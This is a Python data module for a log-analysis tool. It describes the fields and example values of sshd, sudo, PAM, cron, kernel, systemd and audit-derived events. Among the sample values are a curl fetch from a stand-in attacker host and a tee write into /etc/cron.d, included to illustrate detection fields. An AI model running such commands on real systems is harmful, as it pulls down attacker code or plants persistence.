"""The fields that events of each logsource have here: name → what it is, and values that it has.

Pure data: `tellwhy check` tells a mistyped field by it, and docs/fields.md is made of it. tests/test_fields.py holds it
to what the readers make of real logs. Records of JSON and of systemd's journal may have any other field besides.
"""

from collections.abc import Mapping
from typing import TypeAlias

Fields: TypeAlias = Mapping[str, tuple[str, str]]
"""Name → (what it is, values separated by `, `; "" where an example says nothing)."""

_HEAD: Fields = {
    "Message": ("What the program said, without stamp, host and program.", ""),
    "program": ("Who said it, as the line names it.", "sshd, CRON, kernel"),
    "pid": ("The process that said it.", "1234"),
    "hostname": ("The host that the line names.", "web-1"),
    "facility": ("Of a line with a priority.", "auth, authpriv, daemon"),
    "severity": ("Of a line with a priority.", "err, warning, info"),
    "repeat": ("How many messages the line stands for, where that is more than one.", "5"),
    "repeat_omitted": ("How many of these are no events because of a bound.", "900"),
    "trust": (
        "Of systemd's journal: what journald saw of the sender (`container`: it runs in one, or speaks for one).",
        "vouched, unproven, relayed, container, user, forged",
    ),
}
_PAM: Fields = {
    "pam_module": ("The PAM module that said it.", "pam_unix"),
    "pam_service": ("For which program PAM asked.", "sshd, sudo, su"),
    "pam_type": ("What it was asked for.", "auth, session, account, chauthtok"),
    "failures": ("How many failures PAM tells of.", "1, 4"),
    "tty": ("The terminal.", "ssh, tty1, pts/0"),
    "ruser": ("The user on the other side, as a client says.", "alice"),
    "uid": ("The number of the user.", "0, 1000"),
    "by": ("Who did it.", "root"),
    "target": ("The account that it was done to.", "alice"),
}
_SOURCE: Fields = {
    "src_ip": ("The address that it came from.", "203.0.113.7"),
    "src_host": ("The name that it came from, where the program gives no address.", "client.example"),
}
_PAM_ACTIONS = (
    "auth_failure, session_opened, session_closed, user_unknown, password_changed, account_locked, account_expired, "
    "password_expired, access_denied, max_attempts_ignored"
)
_RESULT = ("Whether it worked, where the line says so.", "success, failure")
SSHD: Fields = {
    "action": (
        "What happened.",
        (
            "login, login_failed, login_denied, login_partial, invalid_user, max_attempts, auth_request, "
            "key_postponed, session, subsystem, sftp_session_opened, sftp_session_closed, connection, disconnect, "
            f"timeout, refused, no_identification, bad_protocol, break_in_attempt, penalised, {_PAM_ACTIONS}"
        ),
    ),
    "result": _RESULT,
    "user": ("Whose login it is, as the client says.", "alice, root"),
    "invalid_user": ("Whether there is no such user.", "true, false"),
    "method": ("How it was tried to log in.", "password, publickey, keyboard-interactive/pam"),
    **_SOURCE,
    "src_port": ("The port that it came from.", "51234"),
    "key_type": ("Of a login with a key.", "ED25519, RSA"),
    "fingerprint": ("Of a login with a key.", "SHA256:…"),
    "reason": ("Why a login was denied.", "not listed in AllowUsers"),
    "subsystem": ("What was asked for.", "sftp"),
}
SUDO: Fields = {
    "action": ("What happened.", f"sudo, sudo_refused, sudo_warning, {_PAM_ACTIONS}"),
    "result": _RESULT,
    "user": ("Who called sudo.", "alice"),
    "USER": ("As whom the command was to run.", "root"),
    "GROUP": ("As which group.", "adm"),
    "COMMAND": ("The command, with its arguments.", "/usr/bin/apt update"),
    "PWD": ("The directory it was called in.", "/home/alice"),
    "TTY": ("The terminal.", "pts/0"),
    "reason": ("Why it was refused.", "user NOT in sudoers, 3 incorrect password attempts"),
    "attempts": ("Of wrong passwords.", "3"),
}
AUTH: Fields = {
    "action": (
        "What happened.",
        (
            "su, su_log, login, login_failed, max_attempts, new_session, session_removed, session_logged_out, "
            "authorization, pkexec, pkexec_refused, user_added, user_add_failed, user_changed, user_removed, "
            "group_added, group_removed, member_added, members_set, member_removed, group_password_changed, "
            f"{_PAM_ACTIONS}"
        ),
    ),
    "result": _RESULT,
    "user": ("Who did it, or tried to.", "alice"),
    "as_user": ("Who they became, or wanted to.", "root"),
    "group": ("The group that was changed.", "sudo, docker"),
    "gid": ("Its number.", "27"),
    "home": ("Of a new user.", "/home/alice"),
    "shell": ("Of a new user.", "/bin/bash"),
    "what": ("What of a user was changed.", "UID, home, shell"),
    "old": ("What it was.", "1001"),
    "new": ("What it became.", "0"),
    "session": ("logind's number of the session.", "42"),
    "class": ("logind's class of the session.", "user, greeter"),
    "type": ("logind's type of the session.", "tty, x11, wayland"),
    "polkit_action": ("What polkit was asked for.", "org.freedesktop.systemd1.manage-units"),
    "reason": ("Why pkexec refused.", "Error executing command as another user: Not authorized"),
    "command": ("What pkexec ran.", "/usr/bin/id"),
    **_SOURCE,
}
CRON: Fields = {
    "action": (
        "What happened.",
        (
            "cron_cmd, cron_replace, cron_delete, cron_list, cron_begin_edit, cron_end_edit, cron_reload, "
            "cron_startup, cron_error, cron_failed"
        ),
    ),
    "result": ("Where it failed.", "failure"),
    "user": ("Whose job or table it is.", "root"),
    "command": ("The job's command, or whatever else stands in the parentheses.", "/usr/local/bin/backup"),
    "reason": ("Why it failed.", "FAILED to open PAM security session"),
}
VSFTPD: Fields = {
    "action": ("What happened.", "login, login_failed, connection"),
    "result": _RESULT,
    "user": ("Who logged in, or tried to.", "anonymous"),
    "src_ip": _SOURCE["src_ip"],
}
SYSLOG: Fields = {
    "action": (
        "What the kernel or systemd tells of.",
        (
            "oom_kill, oom, oom_invoked, segfault, trap, io_error, fs_error, fs_readonly, gpu_xid, gpu_lost, "
            "promiscuous, usb_device, usb_removed, hung_task, lockup, machine_check, module_tainted, oops, panic, "
            "packet, unit_starting, unit_started, unit_stopping, unit_stopped, unit_finished, unit_reloading, "
            "unit_reloaded, unit_start_failed, unit_exited, unit_failed, unit_restart, unit_start_limit, "
            "unit_oom, unit_timeout, unit_killing, unit_deactivated, repeated"
        ),
    ),
    "result": ("Where a unit failed.", "failure"),
    "comm": ("The process that the kernel or systemd speaks of.", "nginx"),
    "comm_pid": ("Its number.", "1234"),
    "uid": ("Whose process was killed for memory.", "1000"),
    "total_vm_kb": ("How much it had.", "4194304"),
    "constraint": ("What ran out.", "CONSTRAINT_NONE, CONSTRAINT_MEMCG"),
    "address": ("Of a segfault: what it wanted to read or write.", "0"),
    "ip": ("Of a crash: where the program was.", "55d0c8a1b2c3"),
    "error": ("Of a segfault: the processor's code.", "4, 6"),
    "library": ("Of a segfault: in which file.", "libc.so.6"),
    "trap": ("Of a crash: which.", "general protection fault, invalid opcode"),
    "device": ("A disk or an interface.", "sda1, eth0"),
    "sector": ("Of an error of a disk.", "2048"),
    "block": ("Of an error of a disk.", "42"),
    "kind": ("Of an error of a disk, a lockup or a memory error.", "critical medium, soft, CE"),
    "fs": ("The filesystem that has an error.", "EXT4, XFS"),
    "reason": ("What the kernel or systemd says of it.", "exit-code, signal"),
    "gpu_pci": ("Which GPU.", "0000:01:00"),
    "xid": ("NVIDIA's number of a GPU's fault.", "79"),
    "change": ("Of an interface's promiscuous mode.", "entered, left"),
    "port": ("Of USB.", "1-1.2"),
    "vendor": ("Of a USB device.", "046d"),
    "product": ("Of a USB device.", "c31c"),
    "seconds": ("For how long a task hangs.", "120"),
    "cpu": ("Of a lockup.", "3"),
    "module": ("The kernel module.", "nvidia"),
    "src_ip": ("Of a packet that the firewall wrote down.", "203.0.113.7"),
    "src_port": ("Of a packet.", "40000"),
    "dst_ip": ("Of a packet.", "192.0.2.1"),
    "dst_port": ("Of a packet.", "22"),
    "protocol": ("Of a packet.", "TCP, UDP"),
    "prefix": ("What the firewall's rule puts before it.", "[UFW BLOCK]"),
    "interface": ("Where the packet came in.", "eth0"),
    "out_interface": ("Where it went out.", "eth1"),
    "unit": ("The unit that systemd speaks of.", "nginx.service"),
    "description": ("Of a unit.", "A high performance web server"),
    "code": ("How a unit's process ended.", "exited, killed, dumped"),
    "status": ("With which exit status or signal.", "1, 9"),
    "status_name": ("Its name.", "FAILURE, KILL"),
    "restarts": ("How often a unit was restarted.", "5"),
    "killed": ("How many processes of a unit systemd-oomd killed.", "3"),
    "signal": ("With which a process of a unit was killed.", "SIGKILL"),
    "times": ("Of `last message repeated N times`.", "3"),
    "claimed_program": ("Of a line in a journal that is not of whom it names: whom it names.", "sshd"),
    "claimed_service": ("The service that it would have been of.", "sshd"),
}
_ACTOR: Fields = {
    "User": ("Who made the system call.", "root, alice"),
    "Image": ("The program, with its path.", "/usr/bin/curl"),
    "ProcessId": ("Its number.", "1234"),
    "ParentProcessId": ("Its parent's number.", "1"),
    "LogonId": ("The number of the user who logged in (auid).", "1000, 4294967295"),
}
_EXTRAS: Fields = {
    "SYSCALL": ("The system call.", "execve, openat, connect"),
    "uid": ("The number of the user.", "0"),
    "euid": ("Of the user whose rights it has.", "0"),
    "auid": ("Of the user who logged in.", "1000"),
    "tty": ("The terminal.", "pts0, (none)"),
    "key": ("The keys of the audit rules.", "exec, tmp_exec"),
    "success": ("Whether the system call worked.", "yes, no"),
}
PROCESS_CREATION: Fields = {
    **_ACTOR,
    "CommandLine": ("The arguments, joined by blanks.", "curl -s http://evil.example/x"),
    "CurrentDirectory": ("Where it was started.", "/tmp"),  # noqa: S108 - an example, nobody opens it
    "ParentImage": ("The parent's program.", "/usr/sbin/nginx"),
    "ParentCommandLine": ("The parent's arguments.", "nginx: worker process"),
    "ParentUser": ("Whose process the parent is.", "www-data"),
    **_EXTRAS,
    "incomplete": ("Where records are missing, so that the command line may be cut.", "true"),
}
FILE_EVENT: Fields = {
    "TargetFilename": ("The file that was created, or opened for writing.", "/etc/cron.d/x"),
    **_ACTOR,
    "CommandLine": ("The arguments of the program that wrote it (128 bytes).", "tee /etc/cron.d/x"),
    "nametype": ("Whether the file is new.", "CREATE, NORMAL"),
    **_EXTRAS,
}
NETWORK_CONNECTION: Fields = {
    "DestinationIp": ("Whom it connects to.", "203.0.113.7"),
    "DestinationPort": ("At which port.", "443"),
    "SourceIp": ("Who connected, of a connection that came in.", "198.51.100.4"),
    "SourcePort": ("From which port.", "51234"),
    "Initiated": ("Whether it goes out.", "true, false"),
    **_ACTOR,
    **_EXTRAS,
}
EVIDENCE_LOSS: Fields = {
    "source": ("The source that lost something.", "audit"),
    "why": (
        "What happened.",
        (
            "audit_gap, audit_backlog, audit_daemon, audit_lost_reset, auditd_killed, audit_incomplete, deleted, "
            "truncated, replaced, unfinished_line, line_too_long, journal_vacuumed, faults_overflow, "
            "reader_error, rule_error, baseline_error, redaction_error"
        ),
    ),
    "count": ("How much, where that is known.", "128"),
    "detail": ("In words.", ""),
}
SERVICES: Mapping[str, Fields] = {
    "sshd": {**SSHD, **_PAM, **_HEAD},
    "sudo": {**SUDO, **_PAM, **_SOURCE, **_HEAD},
    "auth": {**AUTH, **_PAM, **_HEAD},
    "cron": {**CRON, **_HEAD},
    "vsftpd": {**VSFTPD, **_HEAD},
    "clamav": _HEAD,
    "guacamole": _HEAD,
    "syslog": {**SYSLOG, **_HEAD},
}
"""Services of lines of text, with the fields of each; that of audit records (`auditd`) is in `audit_keys`."""
CATEGORIES: Mapping[str, Fields] = {
    "process_creation": PROCESS_CREATION,
    "file_event": FILE_EVENT,
    "network_connection": NETWORK_CONNECTION,
    "evidence_loss": EVIDENCE_LOSS,
}
"""Categories of events that are made here, with the fields of each; those of readings are in `gauge_names`."""
